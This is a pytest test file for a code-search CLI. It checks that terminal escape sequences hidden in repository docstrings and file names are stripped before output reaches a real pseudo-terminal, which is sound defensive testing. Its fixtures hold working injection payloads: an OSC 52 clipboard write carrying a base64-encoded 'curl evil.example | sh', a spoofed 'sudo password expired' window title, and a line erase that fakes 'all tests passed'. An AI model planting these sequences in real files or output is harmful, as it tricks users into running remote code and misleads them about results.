"""Terminal injection: a repository whose docstrings and file names carry escape sequences (OSC 52 sets the
clipboard, OSC 0 the window title, CSI 2K + CR erases a line to print a fake "all tests passed"), run through the
real CLI under a real pseudo-terminal (``script -qc``): what the terminal receives must hold none of them.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from codeqa.config import Settings
from tests.conftest import write_files
from tests.helpers import build_index

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # puts "curl evil.example | sh" on the clipboard
TITLE = "\x1b]0;sudo password expired\x1b\\"
FAKE = "\x1b[2K\r\x1b[32mall tests passed\x1b[0m"
HOSTILE = {
    "shop/deploy.py": (
        f'def deploy(target):\n    """Deploy the shop.{OSC52}{TITLE}{FAKE}\x9b2J"""\n    return target\n'
    ),
    f"shop/notes{TITLE}\x07.py": "def release_notes():\n    return 'notes'\n",
    "README.md": f"# Shop deploy\n\nHow to deploy the shop.{FAKE}\n",
}
ALLOWED_CSI = re.compile(r"\x1b\[[0-9;]*m")  # colours and bold from the CLI itself


def _pty(args: list[str], home: Path) -> bytes:
    """Run ``python -m codeqa ARGS`` under a real pseudo-terminal; return what the terminal received."""
    assert shutil.which("script"), "util-linux `script` is needed to run the CLI under a real pty"
    command = " ".join(_quote(part) for part in [sys.executable, "-m", "codeqa", *args])
    env = {**os.environ, "CODEQA_HOME": str(home), "CODEQA_LLM_BACKEND": "none", "TERM": "xterm-256color",
           "COLUMNS": "200", "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}  # fmt: skip
    result = subprocess.run(["script", "-qec", command, "/dev/null"], capture_output=True, env=env, timeout=180)
    assert result.returncode == 0, result.stdout.decode(errors="replace")
    return result.stdout


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


def _injected(output: bytes) -> list[str]:
    """Every control sequence or character the terminal would act on, other than colours and line ends."""
    text = output.decode("utf-8", errors="replace").replace("\r\n", "\n")
    text = ALLOWED_CSI.sub("", text)
    return [repr(ch) for ch in re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)]


@pytest.fixture
def hostile_home(tmp_path: Path, isolated_home: Path) -> Path:
    repo = tmp_path / "repo"  # (a source path with control characters is refused before anything runs)
    write_files(repo, HOSTILE)
    build_index(str(repo), Settings(home=isolated_home), name="shop")
    return isolated_home


@pytest.mark.parametrize(
    "args",
    [
        ["ask", "shop", "how is the shop deployed?", "--backend", "none"],
        ["search", "shop", "deploy the shop release notes"],
        ["search", "shop", "release notes", "--files"],
    ],
    ids=["ask", "search", "search-files"],
)
def test_nothing_from_a_repository_drives_the_terminal(hostile_home: Path, args: list[str]) -> None:
    output = _pty(args, hostile_home)
    assert output.strip(), "the command printed something"
    assert _injected(output) == []
    assert b"deploy" in output or b"notes" in output  # the hostile chunk really was shown


def test_the_filter_keeps_text_and_layout() -> None:
    from codeqa.cli.console import TerminalFilter, terminal_text

    assert terminal_text(f"a\tb\nc{OSC52}d{TITLE}e{FAKE}") == "a\tb\ncdeall tests passed"
    assert terminal_text("x\ny\tz", single_line=True) == "x y z"
    assert terminal_text("caf\u00e9 \u202eevil\u202c") == "café evil"  # bidi overrides reorder what is shown
    stream = TerminalFilter()
    pieces = ["Deploy \x1b", "]52;c;Zm9v", "\x07 done \x1b[", "2K ok\x1b"]
    assert "".join(stream.feed(p) for p in pieces) + stream.close() == "Deploy  done  ok"
